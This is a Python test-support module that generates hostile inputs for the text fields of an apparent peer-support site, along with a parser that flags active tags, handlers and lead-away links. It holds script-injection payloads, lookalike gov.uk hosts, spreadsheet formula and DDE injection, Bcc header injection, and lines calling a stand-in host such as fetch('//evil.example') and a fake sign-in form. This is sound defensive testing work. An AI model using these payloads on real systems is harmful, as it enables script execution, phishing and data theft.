"""Hostile inputs for every field that people type into, generated from families.

Each input carries a mark of its own where it can, so that a test finds it again on a page. What
must never come of one on a page, in a mail or in a table is in signs_of_life().
"""

import re
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from itertools import product

MEGABYTE = 1_000_000
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
INVISIBLE = "\u00ad\u034f\u180e\u200b\u2060\u2061\u2062\u2063\u2064\ufeff\U000e0001\U000e0041"
CONTROLS = "".join(map(chr, [*range(9), 11, 12, *range(14, 32), *range(127, 160)]))
FORMULA_STARTS = "=+-@"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One input with the family that it comes from."""

    family: str
    text: str

    def __str__(self) -> str:
        return f"{self.family}: {self.text[:40]!a}"


SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    "<script/x>{}</script >",
    "<script\n>{}</script\t>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<math><mi//xlink:href='data:x,<script>{}</script>'>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<style><!--</style><script>{}//--></script>",
    "<template><script>{}</script></template>",
    "<iframe srcdoc='<script>{}</script>'>",
    "{{% load x %}}{{{{ {} }}}}",
    "${{{}}}#{{{}}}",
)
CALLS = (
    "alert(1)",
    "alert`1`",
    "fetch('//evil.example')",
    "document.location='https://evil.example'",
    "eval(atob('YQ=='))",
    "top['al'+'ert'](1)",
)
ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "marquee",
    "object data=x",
    "iframe src=x",
    "a href=x",
    "form action=x",
)
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onbegin")
MARKUP = (
    "<b>bold</b>",
    "<h1>heading</h1>",
    "<a href='https://evil.example'>gov.uk</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action='//evil.example'><input name=p><button>Sign in</button></form>",
    "<input type=hidden name=csrfmiddlewaretoken value=x>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<!-- comment -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE x [<!ENTITY e 'x'>]>&e;",
    "<?php echo 1 ?>",
    "<?xml version='1.0'?><x/>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>rest of the page",
    "<textarea>",
    "</main></body></html>",
    "<table><tr><td>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<img src=x onerror=alert(1)",
    "<img src='x' onerror='alert(1)'/",
    "<a\x00 href=javascript:alert(1)>x</a>",
    "<IMG SRC=jav&#x09;ascript:alert(1)>",
    '<a href="jav\tascript:alert(1)">x</a>',
    "<div data-app-exit data-module='govuk-button'>x</div>",
    "<li data-app-last=9 data-app-ended>x</li>",
)
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&amp;amp;lt;img src=x onerror=alert(1)&amp;amp;gt;",
    "&#60;script&#62;alert(1)",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#x0000003c;script&#x3e;",
    "&lt&lt;b&gt&gt;",
    "&LT;script&GT;",
    "&NewLine;&Tab;javascript&colon;alert(1)",
    "&#x202e;gnp.exe&#8238;",
    "&#0;&#x0;&#1;&#127;&#x80;",
    "&#xD800;&#x110000;&#99999999999;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)",
    "\u02c2img src=x onerror=alert(1)\u02c3",
)
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://www.gov.uk/x",
    "view-source:https://www.gov.uk/",
    "tel:999",
    "mailto:x@evil.example",
    "ms-word:ofe|u|https://evil.example/x.doc",
    "http://www.gov.uk/",
    "ftp://www.gov.uk/",
    "//www.gov.uk/",
    "HTTPS:/\\evil.example",
    "[gov.uk](javascript:alert(1))",
    "[gov.uk](https://evil.example)",
    "<https://evil.example>",
    "www.evil.example",
)
# Each looks like a public service to some reader, and is none.
HOSTS = (
    "evil.example",
    "gov.uk.evil.example",
    "www.gov.uk.evil.example",
    "evilgov.uk",
    "evil-gov.uk",
    "gov.uk@evil.example",
    "gov.uk:443@evil.example",
    "gov.uk%40evil.example",
    "evil.example\\@gov.uk",
    "evil.example\\.gov.uk",
    "gov.uk\u3002evil.example",
    "gov.uk\uff0eevil.example",
    "gov.uk%2eevil.example",
    "g\u043ev.uk",
    "gov\u2024uk",
    "gov.uk\u2044evil.example",
    "gov.uk\uff0fevil.example",
    "xn--gv-fka.uk",
    "gov.uk:8443",
    "user:pass@gov.uk",
    "[::1]",
    "127.0.0.1",
    "2130706433",
    "0x7f.1",
    "localhost",
    "gov.uk.",
    "gov.uk\u200bevil.example",
    "police.uk.evil.example",
    "samaritans.org.evil.example",
    "nhs.uk-evil.example",
)
TAILS = ("", "/", "/path?x=1#y", "/<script>alert(1)</script>", '/"onmouseover=alert(1) x="')
FORMULAS = (
    "cmd|'/C calc'!A0",
    'HYPERLINK("https://evil.example","open")',
    'IMPORTXML("https://evil.example","//a")',
    'WEBSERVICE("https://evil.example")',
    "1+1",
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"x")',
)
BREAKS = ("\r", "\n", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "%0d%0a", "\\r\\n")
BROKEN_BYTES = (
    b"\xc0\xbcscript\xc0\xbe",
    b"\xe0\x80\xbcscript",
    b"\xf0\x80\x80\xbc",
    b"\xed\xa0\x80",
    b"\xff\xfe<\x00b\x00",
    b"\x80\x80\x80",
    b"+ADw-script+AD4-alert(1)",
    b"\x1b$B<script>\x1b(B",
)
NESTED = (
    "<",
    ">",
    "<b>",
    "<b",
    "</",
    "<!--",
    "<a ",
    "[",
    "(",
    "{",
    "&",
    "&lt;",
    "<svg><math>",
    "'<\"",
)


def hostile_inputs() -> list[Hostile]:
    """Return all of them, each once."""
    found: dict[str, Hostile] = {}
    for family, texts in _families().items():
        for text in texts:
            found.setdefault(text, Hostile(family, text))
    return list(found.values())


def _families() -> dict[str, Iterator[str]]:
    return {
        "scripts": (frame.format(call, call) for frame, call in product(SCRIPTS, CALLS)),
        "handlers": (f"<{e} {h}=alert(1)>" for e, h in product(ELEMENTS, HANDLERS)),
        "markup": iter(MARKUP),
        "entities": iter(ENTITIES),
        "schemes": iter(SCHEMES),
        "links": (f"see https://{host}{tail} now" for host, tail in product(HOSTS, TAILS)),
        "controls": (f"ab{sign}cd" for sign in CONTROLS),
        "bidirectional": (f"ab{sign}cd <b{sign}>x" for sign in BIDI),
        "invisible": (f"<scr{sign}ipt>alert(1)" for sign in INVISIBLE),
        "formulas": (f"{start}{rest}" for start, rest in product(FORMULA_STARTS, FORMULAS)),
        "hidden formulas": (
            f"{lead}=1+1" for lead in ("\t", "\r", "\n", " ", "\u200b", "\ufeff", "\x00")
        ),
        "breaks": (f"x{sign}Bcc: all@evil.example{sign}{sign}<b>" for sign in BREAKS),
        "broken bytes": (raw.decode("utf-8", "replace") for raw in BROKEN_BYTES),
        "nested": (sign * (4_000 // len(sign)) for sign in NESTED),
        "large": _large(),
    }


def _large() -> Iterator[str]:
    yield "x" * MEGABYTE
    for sign in (
        "<",
        "<b>",
        "&",
        "&lt;",
        "[",
        "\u202e",
        "\x01",
        "\U0001f600",
        "=1+1\n",
        "https://gov.uk/ ",
    ):
        yield sign * (MEGABYTE // len(sign.encode()))


UNSEEN = re.compile(f"[{re.escape(BIDI + INVISIBLE + CONTROLS)}]")
# None of these stands in the main part of any page of peer support.
ACTIVE_TAGS = frozenset(
    {
        *("applet", "audio", "base", "body", "embed", "frame", "frameset", "iframe", "link"),
        *("marquee", "math", "meta", "object", "plaintext", "script", "style", "template"),
        *("video", "xmp"),
    }
)
ADDRESSES = frozenset({"href", "src", "action", "formaction", "data", "poster", "xlink:href"})
LEADS_AWAY = re.compile(
    r"\s*(?:javascript|data|vbscript|file|blob|view-source|ms-word|http|ftp)\s*:"
    r"|\s*(?:https:)?[/\\]{2}[^/]*(?:evil|127\.|2130706433|0x7f|localhost|\[::1\]|@|:\d)",
    re.IGNORECASE,
)


def signs_of_life(html: str) -> list[str]:
    """Return what in a page could run, lead away or hide, read as a browser reads it.

    Of a whole page only the main part is read, where the words of people stand.
    """
    body = html.partition("<main")[2].partition("</main>")[0] or html
    reader = _Reader()
    reader.feed(body)
    reader.close()
    return reader.signs + [f"U+{ord(sign):04X}" for sign in UNSEEN.findall(body)]


class _Reader(HTMLParser):
    """Notes tags and attributes that do something by themselves."""

    def __init__(self) -> None:
        super().__init__()
        self.signs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_TAGS:
            self.signs.append(tag)
        for name, value in attrs:
            leads_away = name in ADDRESSES and LEADS_AWAY.match(value or "")
            if name.startswith("on") or name in {"srcdoc", "style"} or leads_away:
                self.signs.append(f"{tag} {name}={(value or '')[:60]}")

    def handle_decl(self, decl: str) -> None:
        self.signs.append(f"declaration {decl[:60]}")

    def handle_pi(self, data: str) -> None:
        self.signs.append(f"instruction {data[:60]}")

    def unknown_decl(self, data: str) -> None:
        self.signs.append(f"unknown {data[:60]}")
